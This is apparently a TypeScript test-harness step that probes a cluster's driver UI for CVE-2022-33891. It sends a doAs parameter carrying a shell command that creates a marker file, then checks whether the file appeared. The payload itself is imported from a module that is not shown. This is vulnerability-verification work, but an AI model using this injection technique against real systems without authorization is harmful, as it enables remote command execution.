// CVE-2022-33891 probe: once step `target`'s client-mode driver runs, asks its UI for `path` from the RM's container —
// first plainly (the UI must serve the RM's proxy host, or the probe proves nothing), then with a `doAs` value that
// carries a shell command creating a marker file — and looks for that marker on the driver's host.
import { z } from "zod";
import { doAsPayload, doAsUrl, driverUiHost, getFromRm, markerOnGateway, newMarkerPath, type DoAsAnswer, type MarkerState } from "../attacks/ui-doas.ts";
import { notYet, ready, sleep, waitUntil } from "../util/wait-until.ts";
import { awaitTarget } from "./await-target.ts";
import { defineStep, StepIdSchema } from "./step-module.ts";

export const UiDoAsProbeStepSchema = z.strictObject({
  kind: z.literal("ui-doas-probe"),
  id: StepIdSchema,
  target: z.string(),
  /** The UI page asked for; /jobs/ answers 200 itself (the root only redirects there). */
  path: z.string().regex(/^\/[A-Za-z0-9/._-]*$/, "a plain URL path").default("/jobs/"),
});
export type UiDoAsProbeStep = z.output<typeof UiDoAsProbeStepSchema>;

/** What the probe saw: the plain request, the injected one, and the marker afterwards. */
export interface DoAsEvidence {
  marker: string;
  payload: string;
  baseline: DoAsAnswer;
  injected: DoAsAnswer;
  markerState: MarkerState;
}

/** How long the UI gets to serve the RM's proxy host once the app runs (the driver is held, so waiting is safe). */
const UI_ANSWER_MS = 30_000;
/** The group lookup runs inside the request, so the marker exists when the answer comes; a few looks for slow disks. */
const MARKER_LOOKS = 3;

export const uiDoAsProbeStep = defineStep({
  kind: "ui-doas-probe",
  schema: UiDoAsProbeStepSchema,
  refs: (s) => ({ targets: [["target", s.target]] }),
  describe: () => "the driver UI with a shell command in ?doAs=",
  async run(ctx): Promise<DoAsEvidence | undefined> {
    const { step, cluster, history } = ctx;
    const target = await awaitTarget(ctx, step.target);
    if (!target.running) return undefined;
    const host = driverUiHost(cluster);
    const marker = newMarkerPath();
    const payload = doAsPayload(marker);
    // the plain request settles when the UI serves it (200); a 404 means its handlers are not attached yet
    const baseline = await history.record(step.id, "ui-baseline", { url: doAsUrl(host, step.path) }, async () => {
      let last: DoAsAnswer | undefined;
      await waitUntil({ what: "the driver UI serving the RM's proxy host", timeoutMs: UI_ANSWER_MS, intervalMs: 1000, signal: ctx.signal }, async () => {
        last = await getFromRm(cluster, doAsUrl(host, step.path));
        return last.httpCode === "200" ? ready(last) : notYet(`HTTP ${last.httpCode}${last.redirect ? ` → ${last.redirect}` : ""}`);
      }).catch(() => undefined);
      return last ?? getFromRm(cluster, doAsUrl(host, step.path));
    });
    if (!baseline.ok) {
      ctx.record.problem = `the UI could not be asked: ${(baseline.error as Error).message}`;
      return undefined;
    }
    const injected = await history.record(step.id, "ui-doas", { url: doAsUrl(host, step.path, payload), payload }, () => getFromRm(cluster, doAsUrl(host, step.path, payload)));
    if (!injected.ok) {
      ctx.record.problem = `the doAs request could not be sent: ${(injected.error as Error).message}`;
      return undefined;
    }
    const looked = await history.record(step.id, "marker", { node: "gateway", marker }, async () => {
      let state: MarkerState = { exists: false };
      for (let i = 0; i < MARKER_LOOKS && !state.exists; i++) {
        if (i > 0) await sleep(1000, ctx.signal);
        state = await markerOnGateway(cluster, marker);
      }
      return state;
    });
    if (!looked.ok) {
      ctx.record.problem = `the marker could not be looked for: ${(looked.error as Error).message}`;
      return undefined;
    }
    return { marker, payload, baseline: baseline.value, injected: injected.value, markerState: looked.value };
  },
});

/** The CVE-2022-33891 probe against the driver UI of step `target` (a held client-mode job, e.g. uiTarget()). */
export function uiDoAsProbe(o: { target: string; id?: string; path?: string }): z.input<typeof UiDoAsProbeStepSchema> {
  return { kind: "ui-doas-probe", id: o.id ?? "doas", target: o.target, ...(o.path ? { path: o.path } : {}) };
}
